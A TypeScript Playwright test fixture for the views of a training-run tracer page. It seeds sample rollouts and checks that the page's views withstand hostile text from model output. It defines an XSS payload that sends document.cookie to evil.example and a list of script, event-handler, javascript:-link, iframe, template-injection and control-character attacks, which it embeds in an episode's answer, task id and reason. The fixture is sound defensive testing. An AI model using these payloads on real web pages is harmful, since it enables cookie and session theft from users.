/** A tracer with sample runs, an open browser, and what answers for trainer and judge, for tests of the page's views. */

import assert from "node:assert/strict";
import { create } from "@bufbuild/protobuf";
import {
  BucketName,
  openBucket,
  openRewardKey,
  publishStored,
  RewardGiver,
  RunControl,
  respond,
  StreamName,
  slotToWire,
  subjects,
} from "@hone/messaging";
import {
  RewardReplySchema,
  RewardRequestSchema,
  RewardResult,
  RolloutRewardsSchema,
} from "@hone/proto-gen/judge";
import { EpisodeSchema, ScoredEpisodeSchema } from "@hone/proto-gen/rollout";
import { ControlReplySchema, ControlRequestSchema, RunPhase } from "@hone/proto-gen/run";
import { launchChromium } from "@hone/testing/chromium";
import type { BrowserContext, Page } from "playwright-core";
import { chatEpisode } from "./chat-episode.ts";
import { publishSampleRun, publishState } from "./sample-run.ts";
import { startStack, type TracerStack } from "./stack.ts";

export const TOKEN = "the-token-of-the-page-0123456789";
export const RUN = "/runs/frozen-lake-1";
export const CHAT = `${RUN}/rollouts/eval.40.5.1`;
export const HOSTILE = `${RUN}/rollouts/eval.40.6.0`;
export const WAITING = `${RUN}/waiting/train.41.0.0`;
export const OWNED = "document.title='owned';fetch('https://evil.example/?'+document.cookie)";
/** What a model may write to act on the page that shows it. */
export const ATTACKS = [
  `<script>${OWNED}</script>`,
  `<img src=x onerror="${OWNED}">`,
  `<svg onload="${OWNED}"><style>*{display:none!important}</style></svg>`,
  `<a href="javascript:${OWNED}">click</a> [click](javascript:${OWNED}) javascript:${OWNED}`,
  `<iframe srcdoc="<script>parent.${OWNED}</script>"></iframe>`,
  `" onmouseover="${OWNED}" x="`,
  `</code></pre></div></main><style>body{visibility:hidden}</style>`,
  "\u202egnp.exe\u202c \u2066abc\u2069 \u0000\u0007\u001b[31mred\u009b",
  `e${"\u0301".repeat(4_000)}`,
  "W".repeat(300_000),
  "<think>".repeat(2_000),
  `<tool_call>{"name":"<img src=x onerror=${OWNED}>","arguments":{"<b>":"<script>${OWNED}</script>"}}</tool_call>`,
  "${alert(1)} {{constructor.constructor('alert(1)')()}}",
].join("\n");

/** The page in a browser whose person has the token. */
export interface ViewsStack extends AsyncDisposable {
  readonly url: string;
  readonly context: BrowserContext;
  readonly page: Page;
  /** What the browser complained about, and requests to other places. */
  readonly complaints: string[];
  /** What was asked of trainer and judge. */
  readonly asked: string[];
  /** Goes to a place of the page. */
  open(place: string): Promise<unknown>;
  /** Tells the page that the run of {@link RUN} has changed, so that it refreshes what it shows. */
  changeRun(): Promise<void>;
  /** Evaluates an expression in the page; a text, as the compiler does not know the DOM here. */
  look<Value>(expression: string, of?: Page): Promise<Value>;
}

/** @param chromium path of the browser. */
export async function startViews(chromium: string): Promise<ViewsStack> {
  const stack = await startStack(Date.now() - 100_000);
  const asked: string[] = [];
  answerForOthers(stack, asked);
  await publishSamples(stack);
  const tracer = await stack.startTracer({
    HONE_TRACER_TOKEN: TOKEN,
    HONE_TRACER_PRICE_PER_HOUR: "2.40",
    HONE_TRACER_CURRENCY: "EUR",
  });
  const { url } = tracer.http;
  const browser = await launchChromium(chromium);
  const context = await browser.newContext({ viewport: { width: 1_280, height: 900 }, locale: "en-US" });
  const page = await context.newPage();
  const complaints: string[] = [];
  page.on("console", (message) => {
    if (message.type() === "error" || message.type() === "warning") complaints.push(message.text());
  });
  page.on("pageerror", (error) => complaints.push(error.message));
  page.on("request", (request) => {
    if (!request.url().startsWith(url)) complaints.push(`asks ${request.url().slice(0, 100)}`);
  });
  await page.goto(`${url}/?token=${TOKEN}`);
  return {
    url,
    context,
    page,
    complaints,
    asked,
    open: (place) => page.goto(`${url}${place}`),
    changeRun: () => publishState(stack.bus, stack.run, RunPhase.ROLLOUT),
    look: async <Value>(expression: string, of: Page = page) => (await of.evaluate(expression)) as Value,
    async [Symbol.asyncDispose]() {
      await browser.close();
      await tracer.stop();
      await stack[Symbol.asyncDispose]();
    },
  };
}

function answerForOthers({ bus }: TracerStack, asked: string[]): void {
  const onError = (error: unknown) => {
    throw error;
  };
  for (const verb of [RunControl.pause, RunControl.cancel]) {
    respond(bus, subjects.runControl(verb, "*"), ControlRequestSchema, ControlReplySchema, {
      handle: ({ message, reply }) => {
        asked.push(`${verb} ${message.runId}`);
        return reply(create(ControlReplySchema, {}));
      },
      onError,
    });
  }
  respond(bus, subjects.judgeReward(RewardGiver.page), RewardRequestSchema, RewardReplySchema, {
    handle: ({ message, reply }) => {
      asked.push(`reward ${message.value} ${message.judge} ${message.reason}`);
      return reply(create(RewardReplySchema, { result: RewardResult.TAKEN }));
    },
    onError,
  });
}

async function publishSamples(stack: TracerStack): Promise<void> {
  // By a tracer without a token, as the sample run's spans come without one.
  const open = await stack.startTracer();
  await publishSampleRun(stack.bus, stack.run, open.http.url);
  await publishSampleRun(stack.bus, { ...stack.run, runId: "frozen-lake-2" }, undefined);
  const { runId } = stack.run;
  for (const [task, index, texts] of [
    [5, 0, undefined],
    [5, 1, undefined],
    [6, 0, (answer: string) => `${answer}\n${ATTACKS}`],
  ] as const) {
    const scored = chatEpisode(runId, { split: "eval", step: 40, task, index }, texts);
    if (task === 6 && scored.episode?.task !== undefined) {
      scored.episode.task.id = `<img src=x onerror="${OWNED}">\u202e`;
      scored.episode.reason = ATTACKS.slice(0, 2_000);
      const [score] = scored.scores;
      if (score !== undefined) score.reason = ATTACKS.slice(0, 1_900);
    }
    await publishStored(stack.bus, subjects.rolloutScored(runId), ScoredEpisodeSchema, scored);
  }
  await stack.stored();
  await publishWaiting(stack);
  await open.stop();
}

/** Publishes a finished rollout that waits for the reward of a person, as the judge stores it. */
async function publishWaiting({ bus, run: { runId } }: TracerStack): Promise<void> {
  const slot = { split: "train", step: 41, task: 0, index: 0 } as const;
  const { episode } = chatEpisode(runId, slot);
  assert.ok(episode !== undefined);
  await publishStored(bus, subjects.rolloutFinished(runId), EpisodeSchema, create(EpisodeSchema, episode));
  const { state } = await bus.manager.streams.info(StreamName.episodes);
  const bucket = await openBucket(bus, BucketName.rewards, RolloutRewardsSchema);
  await bucket.put(
    openRewardKey(runId, slot),
    create(RolloutRewardsSchema, {
      finished: { position: BigInt(state.last_seq), runId, slot: slotToWire(slot), attempt: 1 },
      sinceMs: BigInt(Date.now() - 60_000),
      deadlineMs: 3_600_000n,
      awaited: [{ judge: "people", weight: 1, place: 0 }],
    }),
  );
}
